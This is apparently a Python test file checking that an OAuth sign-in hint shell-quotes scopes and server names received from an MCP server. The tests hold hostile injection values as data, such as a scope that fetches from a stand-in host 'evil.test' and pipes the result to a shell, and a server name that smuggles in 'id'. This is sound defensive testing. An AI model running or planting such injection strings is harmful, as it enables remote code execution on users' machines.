"""Suggested commands quote what an MCP server sent."""

from __future__ import annotations

import shlex

from a2c_computer._oauth._hints import oauth_auth_hint
from a2c_protocol import ErrorCode


def _command(message: str) -> list[str]:
    # punctuation_chars: split at ; | & ( ) as a shell does, so a second command shows.
    lexer = shlex.shlex(message.split("`")[1], posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    return list(lexer)


def test_step_up_hint_quotes_a_hostile_scope() -> None:
    hostile = "admin;curl${IFS}evil.test|sh;$(id)"
    hint = oauth_auth_hint(ErrorCode.TOOL_AUTHORIZATION_FAILED, "oauthy", f"{hostile} read")
    argv = _command(hint["message"])
    # A shell reads exactly one command whose --scope is the whole hostile word.
    assert argv == ["a2c-computer", "auth", "login", "oauthy", "--scope", hostile]


def test_step_up_hint_of_a_plain_scope_is_unchanged() -> None:
    hint = oauth_auth_hint(ErrorCode.TOOL_AUTHORIZATION_FAILED, "oauthy", "admin")
    assert "`a2c-computer auth login oauthy --scope admin`" in hint["message"]


def test_sign_in_hint_quotes_the_server_name() -> None:
    hint = oauth_auth_hint(ErrorCode.TOOL_AUTHORIZATION_REQUIRED, "my server;id")
    command = hint["message"].split("`")[1]
    assert command.startswith("a2c-computer auth login 'my server;id' --config ")
